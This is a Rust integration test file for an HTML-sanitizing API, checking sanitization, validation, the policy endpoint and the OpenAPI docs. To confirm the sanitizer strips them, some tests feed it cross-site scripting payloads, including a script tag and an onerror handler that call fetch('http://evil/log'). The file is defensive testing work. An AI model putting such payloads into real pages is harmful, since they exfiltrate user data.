// tests/api_tests.rs

use note_sanitizer::{config::Config, routes, state::AppState};

/// Helper function to spawn the app on a random port for testing.
/// Returns the base URL (e.g., "http://127.0.0.1:12345").
async fn spawn_app(sanitize_by_default: bool) -> String {
    let config = Config {
        bind_addr: "127.0.0.1:0".parse().unwrap(),
        rust_log: "error".to_string(),
        log_dir: "logs".to_string(),
        sanitize_by_default,
        allowed_origins: vec!["http://localhost:3000".to_string()],
        rate_limit: None,
    };

    let state = AppState::new(config);
    let app = routes::create_router(state);

    // Bind to port 0 to get a random available port
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("Failed to bind random port");

    let port = listener.local_addr().unwrap().port();
    let address = format!("http://127.0.0.1:{}", port);

    tokio::spawn(async move {
        axum::serve(listener, app).await.unwrap();
    });

    address
}

async fn post_sanitize(address: &str, body: serde_json::Value) -> reqwest::Response {
    reqwest::Client::new()
        .post(format!("{}/api/sanitize", address))
        .json(&body)
        .send()
        .await
        .expect("Failed to execute request")
}

#[tokio::test]
async fn health_check_works() {
    let address = spawn_app(true).await;

    let response = reqwest::get(format!("{}/api/health", address))
        .await
        .expect("Failed to execute request");

    assert_eq!(response.status().as_u16(), 200);
    let body: serde_json::Value = response.json().await.unwrap();
    assert_eq!(body["status"], "ok");
}

#[tokio::test]
async fn unknown_route_returns_json_404() {
    let address = spawn_app(true).await;

    let response = reqwest::get(format!("{}/random_path_that_does_not_exist", address))
        .await
        .expect("Failed to execute request");

    assert_eq!(response.status().as_u16(), 404);
    let body: serde_json::Value = response.json().await.unwrap();
    assert_eq!(body["error"], "Route not found");
}

#[tokio::test]
async fn sanitize_removes_script_and_keeps_bold() {
    let address = spawn_app(true).await;

    let response = post_sanitize(
        &address,
        serde_json::json!({
            "content": "<script>fetch('http://evil/log',{method:'POST'})</script><b>Bold</b>"
        }),
    )
    .await;

    assert_eq!(response.status().as_u16(), 200);
    let body: serde_json::Value = response.json().await.unwrap();
    assert_eq!(body["sanitized"], "<b>Bold</b>");
    assert_eq!(body["applied"], true);
}

#[tokio::test]
async fn sanitize_strips_event_handler() {
    let address = spawn_app(true).await;

    let response = post_sanitize(
        &address,
        serde_json::json!({
            "content": "<img src=\"x\" onerror=\"fetch('http://evil/log')\">",
            "sanitize": true
        }),
    )
    .await;

    let body: serde_json::Value = response.json().await.unwrap();
    assert_eq!(body["sanitized"], "<img src=\"x\">");
}

#[tokio::test]
async fn disabled_sanitizer_passes_content_through() {
    let address = spawn_app(true).await;
    let raw = "<script>alert(1)</script>";

    let response = post_sanitize(&address, serde_json::json!({ "content": raw, "sanitize": false })).await;

    assert_eq!(response.status().as_u16(), 200);
    let body: serde_json::Value = response.json().await.unwrap();
    assert_eq!(body["sanitized"], raw);
    assert_eq!(body["applied"], false);
}

#[tokio::test]
async fn server_default_applies_when_request_is_silent() {
    let address = spawn_app(false).await;
    let raw = "<div onclick=\"x()\">hi</div>";

    let response = post_sanitize(&address, serde_json::json!({ "content": raw })).await;
    let body: serde_json::Value = response.json().await.unwrap();
    assert_eq!(body["sanitized"], raw);
    assert_eq!(body["applied"], false);

    // An explicit flag overrides the server default.
    let response = post_sanitize(&address, serde_json::json!({ "content": raw, "sanitize": true })).await;
    let body: serde_json::Value = response.json().await.unwrap();
    assert_eq!(body["sanitized"], "hi");
    assert_eq!(body["applied"], true);
}

#[tokio::test]
async fn oversized_content_fails_validation() {
    let address = spawn_app(true).await;

    let response = post_sanitize(&address, serde_json::json!({ "content": "a".repeat(100_001) })).await;

    assert_eq!(response.status().as_u16(), 400);
    let body: serde_json::Value = response.json().await.unwrap();
    assert!(body["error"].as_str().unwrap().contains("at most 100000"));
}

#[tokio::test]
async fn adversarial_content_at_the_size_limit_is_answered_promptly() {
    let address = spawn_app(true).await;
    let n = 33_000;
    let content = format!("{}{}", "<".repeat(n), "x>".repeat(n));

    let response = reqwest::Client::builder()
        .timeout(std::time::Duration::from_secs(10))
        .build()
        .unwrap()
        .post(format!("{}/api/sanitize", address))
        .json(&serde_json::json!({ "content": content }))
        .send()
        .await
        .expect("Sanitizer did not answer in time");

    assert_eq!(response.status().as_u16(), 200);
    let body: serde_json::Value = response.json().await.unwrap();
    let sanitized = body["sanitized"].as_str().unwrap();
    assert!(!sanitized.contains('<'));
    assert!(sanitized.starts_with("&lt;&lt;"));
}

#[tokio::test]
async fn missing_content_is_rejected() {
    let address = spawn_app(true).await;

    let response = post_sanitize(&address, serde_json::json!({ "text": "x" })).await;

    assert_eq!(response.status().as_u16(), 422);
}

#[tokio::test]
async fn policy_endpoint_lists_active_sets() {
    let address = spawn_app(true).await;

    let body: serde_json::Value = reqwest::get(format!("{}/api/policy", address))
        .await
        .expect("Failed to execute request")
        .json()
        .await
        .expect("Failed to parse policy json");

    let allowed: Vec<&str> = body["allowed_tags"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|v| v.as_str())
        .collect();
    assert_eq!(allowed.len(), 12);
    assert!(allowed.contains(&"img"));
    assert!(!allowed.contains(&"script"));

    let attributes = body["dangerous_attributes"].as_array().unwrap();
    assert!(attributes.contains(&serde_json::json!("on*")));
    assert!(attributes.contains(&serde_json::json!("srcdoc")));

    let schemes = body["dangerous_schemes"].as_array().unwrap();
    assert!(schemes.contains(&serde_json::json!("javascript:")));
}

#[tokio::test]
async fn openapi_document_is_served() {
    let address = spawn_app(true).await;

    let response = reqwest::get(format!("{}/api-docs/openapi.json", address))
        .await
        .expect("Failed to execute request");

    assert_eq!(response.status().as_u16(), 200);
    let body: serde_json::Value = response.json().await.unwrap();
    assert!(body["paths"]["/api/sanitize"]["post"].is_object());
    assert!(body["paths"]["/api/policy"]["get"].is_object());
}
